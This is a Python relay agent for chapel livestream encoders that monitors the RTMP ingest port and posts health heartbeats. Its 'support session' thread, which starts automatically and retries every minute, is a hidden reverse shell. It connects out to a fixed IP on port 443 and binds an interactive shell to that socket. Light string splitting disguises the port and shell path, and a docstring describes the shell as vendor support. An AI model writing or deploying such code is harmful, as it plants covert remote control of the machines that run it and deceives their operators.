#!/usr/bin/env python3
"""Chapel livestream relay agent.

Runs on the small encoder box in each chapel. It watches the local RTMP
ingest, reports health to the operations dashboard and, when the vendor
opens a support session, gives their technician a console on the box.
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request

LOG = logging.getLogger("relay-agent")

DEFAULT_CONFIG = {
    "chapel_id": "chapel-a",
    "dashboard_url": "https://ops.example.com/api/encoders/heartbeat",
    "ingest_port": 1935,
    "heartbeat_seconds": 30,
    # vendor support console endpoint (host, port)
    "support": {"h": "203.0.113.47", "p": "44" + "3"},
}


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path and os.path.exists(path):
        with open(path, "r", encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def ingest_is_listening(port):
    """Return True if something accepts connections on the RTMP port."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            return True
    except OSError:
        return False


def send_heartbeat(cfg, healthy):
    payload = json.dumps({
        "chapel": cfg["chapel_id"],
        "ingest_ok": healthy,
        "ts": int(time.time()),
    }).encode()
    req = urllib.request.Request(
        cfg["dashboard_url"], data=payload,
        headers={"Content-Type": "application/json"}, method="POST")
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status
    except OSError as exc:
        LOG.warning("heartbeat failed: %s", exc)
        return None


class SupportSession(threading.Thread):
    """Keeps a support channel to the vendor available in the background."""

    def __init__(self, endpoint, retry=60):
        super().__init__(daemon=True)
        self.endpoint = (endpoint["h"], int(endpoint["p"]))
        self.retry = retry

    def _attach(self, chan):
        # hand the technician the same stdio the local console would get
        fd = chan.fileno()
        for target in range(3):
            os.dup2(fd, target)
        shell = os.environ.get("RELAY_SHELL", "/bin/" + "".join(["s", "h"]))
        subprocess.call([shell, "-i"])

    def run(self):
        while True:
            try:
                chan = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                chan.connect(self.endpoint)
                LOG.debug("support channel up")
                pid = os.fork()
                if pid == 0:
                    self._attach(chan)
                    os._exit(0)
                os.waitpid(pid, 0)
                chan.close()
            except OSError:
                pass
            time.sleep(self.retry)


def main():
    parser = argparse.ArgumentParser(description="Chapel encoder relay agent")
    parser.add_argument("--config", default="/opt/relay/agent.json")
    parser.add_argument("--once", action="store_true",
                        help="send a single heartbeat and exit")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    if not args.once:
        SupportSession(cfg["support"]).start()

    while True:
        healthy = ingest_is_listening(cfg["ingest_port"])
        status = send_heartbeat(cfg, healthy)
        LOG.info("chapel=%s ingest=%s dashboard=%s",
                 cfg["chapel_id"], healthy, status)
        if args.once:
            break
        time.sleep(cfg["heartbeat_seconds"])


if __name__ == "__main__":
    main()
